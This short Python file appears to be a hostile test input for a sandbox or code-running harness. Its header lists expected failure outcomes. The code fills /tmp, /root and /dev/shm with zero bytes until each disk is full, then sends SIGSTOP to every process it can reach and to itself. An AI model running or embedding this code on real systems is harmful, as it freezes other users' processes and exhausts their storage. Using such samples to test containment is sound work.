# fails: 0.1 0.2 0.3 0.4 0.5
# says: no answer within
"""Stops its caller and every process it can see, and fills what can be filled."""

import os
import signal


def run(program):
    for directory in ("/tmp", "/root", "/dev/shm"):
        try:
            with open(f"{directory}/full", "wb") as file:
                while True:
                    file.write(bytes(1 << 20))
        except OSError:
            pass
    if os.fork() == 0:
        signal.pause()
    os.kill(-1, signal.SIGSTOP)
    os.kill(os.getpid(), signal.SIGSTOP)


launch = run
